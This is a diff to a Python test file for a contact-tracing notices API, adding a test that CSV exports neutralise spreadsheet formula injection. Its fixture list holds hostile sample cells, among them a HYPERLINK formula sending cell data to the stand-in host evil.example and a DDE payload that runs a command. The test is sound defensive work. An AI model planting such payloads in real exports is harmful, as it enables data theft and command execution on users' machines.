@@ -1,5 +1,7 @@
 """Contact-tracing notices: who sees the persons, encryption at rest, audit, retention."""
 
+import csv
+import io
 import json
 from datetime import timedelta
 from pathlib import Path
@@ -419,6 +421,62 @@ def test_authorization_matrix(client, db, parties, make_person):
         ).scalar_one()
     assert created.parties_key == ",ASEC,KHM," and created.owner_party == "IDN"
     assert NAMES[0] not in created.data
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "=1+A1",
+]
+
+
+def test_export_neutralises_spreadsheet_formulas(client, parties):
+    """Names and numbers come from another country or an airline manifest: no cell of
+    the tracers' export runs as a formula when opened in a spreadsheet."""
+    person = {
+        **_persons()[0],
+        "full_name": FORMULAS[0],
+        "document_number": FORMULAS[1],
+        "phone": FORMULAS[2],
+        "email": FORMULAS[3],
+        "seat": FORMULAS[4],
+    }
+    r = client.post(
+        "/api/v1/tracing-notices",
+        headers=parties["idn_fp"].headers,
+        json={"event_id": parties["event_id"], "parties": ["KHM"], "persons": [person]},
+    )
+    assert r.status_code == 201, r.text
+    nid = r.json()["id"]
+    export = client.get(
+        f"/api/v1/tracing-notices/{nid}/export.csv", headers=parties["khm_fp"].headers
+    )
+    assert export.status_code == 200
+    [row] = list(csv.DictReader(io.StringIO(export.text)))
+    cells = [row["full_name"], row["document_number"], row["phone"], row["email"], row["seat"]]
+    assert cells == ["'" + f for f in FORMULAS]
+    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # the parties not concerned still get nothing
+    for who in ("tha_fp", "partner"):
+        other = client.get(
+            f"/api/v1/tracing-notices/{nid}/export.csv", headers=parties[who].headers
+        )
+        assert other.status_code == 404 and "HYPERLINK" not in other.text
+
+
+def test_one_csv_writer():
+    """Every CSV the project writes goes through interop.tables.write_csv, and no XLSX
+    is written anywhere else."""
+    root = Path(__file__).resolve().parent.parent / "eocnet"
+    writers = []
+    for path in root.rglob("*.py"):
+        source = path.read_text(encoding="utf-8")
+        for needle in ("csv.writer(", "csv.DictWriter(", "Workbook(", "write_only=True"):
+            if needle in source and path.relative_to(root).as_posix() != "interop/tables.py":
+                writers.append((path.relative_to(root).as_posix(), needle))
+    assert writers == []
 
 
 def test_patient_travel_notice(client, parties):
